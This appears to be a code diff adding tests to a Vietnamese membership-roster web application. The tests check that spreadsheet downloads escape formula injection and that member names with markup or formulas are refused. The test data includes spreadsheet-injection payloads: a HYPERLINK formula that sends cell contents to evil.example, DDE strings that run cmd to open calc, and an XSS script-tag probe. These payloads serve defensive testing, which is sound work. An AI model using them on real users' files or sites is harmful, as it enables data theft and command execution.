@@ -72,3 +72,160 @@ def test_h2_card_approval_does_not_reveal_an_owner_outside_scope(app, client, wo
             select(AuditEntry).where(AuditEntry.action == "card_request.number_taken")
         ).all()
         assert [e.details["card"] for e in refused] == ["52100005", "52100004"]
+
+
+# ------------------------------------------------------------------------------------ M2
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+def _cells_of(response) -> list:
+    """Every cell value of an .xlsx or CSV download, checking .xlsx cells are never formulas."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    if response.mimetype == "text/csv":
+        text = response.get_data(as_text=True).lstrip("\ufeff")
+        return [v for row in csv.reader(io.StringIO(text), delimiter=";") for v in row]
+    book = load_workbook(io.BytesIO(response.data))
+    values = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                values.append(cell.value)
+    return values
+
+
+def _assert_inert(values: list) -> None:
+    from core.spreadsheets import FORMULA_PREFIXES
+
+    for value in values:
+        if isinstance(value, str):
+            assert not value.startswith(FORMULA_PREFIXES), value
+
+
+def test_m2_spreadsheet_safe_escapes_formulas_and_keeps_numbers():
+    from core.spreadsheets import spreadsheet_safe
+
+    for value in HOSTILE:
+        assert spreadsheet_safe(value) == "'" + value
+    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(-2.5) == -2.5
+    assert spreadsheet_safe("-12,5") == "-12,5" and spreadsheet_safe(None) is None
+    assert spreadsheet_safe("Chi bộ An Phú") == "Chi bộ An Phú"
+
+
+def test_m2_every_spreadsheet_download_is_inert(app, client, world, as_role):
+    """Sweep: every route that answers .xlsx/.csv, fed hostile values, has no live formula."""
+    from blueprints.units.models import Unit
+
+    app.config["ROSTER_JOBS_INLINE"] = True
+    with app.app_context():
+        for code, name in (("D1", HOSTILE[0]), ("D2", HOSTILE[3])):
+            unit = db.session.scalar(select(Unit).where(Unit.code == code))
+            unit.name = name
+        db.session.commit()
+    as_role("admin")
+    rows = [member_row(v, v, "A", phone="") for v in HOSTILE]
+    job_id = job_id_of(upload(client, xlsx(rows), unit_id=world.units["P"]))
+    csv_job = job_id_of(
+        upload(
+            client,
+            "\n".join(
+                ";".join(r)
+                for r in [["Số thẻ", "Họ và tên", "Mã chi bộ"], *[[v, v, "A"] for v in HOSTILE]]
+            ).encode(),
+            "ds.csv",
+            unit_id=world.units["P"],
+        )
+    )
+    urls = {
+        "/adoption/<int:unit_id>.xlsx": [f"/adoption/{world.units['P']}.xlsx"],
+        "/roster/template/<kind>.xlsx": [
+            "/roster/template/members.xlsx",
+            "/roster/template/units.xlsx",
+        ],
+        "/roster/jobs/<int:job_id>/rejected.csv": [
+            f"/roster/jobs/{job_id}/rejected.csv",
+            f"/roster/jobs/{csv_job}/rejected.csv",
+        ],
+    }
+    spreadsheet_rules = {
+        r.rule for r in app.url_map.iter_rules() if r.rule.endswith((".xlsx", ".csv", ".ods"))
+    }
+    assert spreadsheet_rules == set(urls), "a new spreadsheet route needs to join this sweep"
+    seen_hostile = 0
+    for paths in urls.values():
+        for path in paths:
+            response = client.get(path)
+            assert response.status_code == 200, path
+            values = _cells_of(response)
+            _assert_inert(values)
+            hits = [v for v in values if isinstance(v, str) and v[:1] == "'"]
+            seen_hostile += len(hits)
+    assert seen_hostile >= 12  # the hostile values did reach the files (2 units, 2 × 5 rows)
+
+
+def test_m2_no_spreadsheet_writer_outside_core_spreadsheets():
+    """Every .xlsx/CSV writer goes through core.spreadsheets (so none skips the escaping)."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2]
+    pattern = re.compile(r"\bWorkbook\(|csv\.writer|csv\.DictWriter|xlsxwriter|odf\.")
+    offenders = [
+        str(path.relative_to(root))
+        for folder in ("blueprints", "core")
+        for path in (root / folder).rglob("*.py")
+        if path.name != "spreadsheets.py" and pattern.search(path.read_text(encoding="utf-8"))
+    ]
+    assert offenders == []
+
+
+# ------------------------------------------------------------------------------------ L9
+
+
+def test_l9_names_with_markup_or_formulas_are_refused_with_a_reason(app, client, world, as_role):
+    from blueprints.members.models import Member
+    from tests.roster.helpers import units_xlsx
+
+    app.config["ROSTER_JOBS_INLINE"] = True
+    as_role("staff_d1")
+    rows = [
+        member_row("52100401", "<script>alert(1)</script>", "A"),
+        member_row("52100402", "<b>Nguyễn Văn Đậm</b>", "A"),
+        member_row("52100403", '=HYPERLINK("http://x")', "A"),
+        member_row("52100404", "@Trần Văn A", "A"),
+        member_row("52100405", "Lê Văn {Ngoặc}", "A"),
+        member_row("52100406", "H'Hen Niê", "A"),  # a real Ê Đê name: accepted
+    ]
+    job_id = job_id_of(upload(client, xlsx(rows), unit_id=world.units["D1"]))
+    html = client.get(f"/roster/jobs/{job_id}").get_data(as_text=True)
+    assert "<script>alert(1)</script>" not in html and "<b>Nguyễn" not in html
+    assert html.count("dạng mã trang web") == 2 and "Excel sẽ hiểu là công thức" in html
+    assert "không dùng trong tên" in html
+    from tests.roster.helpers import commit
+
+    commit(client, job_id)
+    units_job = job_id_of(
+        upload(
+            client,
+            units_xlsx([["X-1", "<i>Chi bộ</i>", "G1", "chi bộ"]]),
+            kind="units",
+            unit_id=world.units["D1"],
+        )
+    )
+    assert "dạng mã trang web" in client.get(f"/roster/jobs/{units_job}").get_data(as_text=True)
+    with app.app_context():
+        names = set(db.session.scalars(select(Member.full_name)))
+        assert "H'Hen Niê" in names
+        assert not any(ch in n for n in names for ch in "<>=@{")
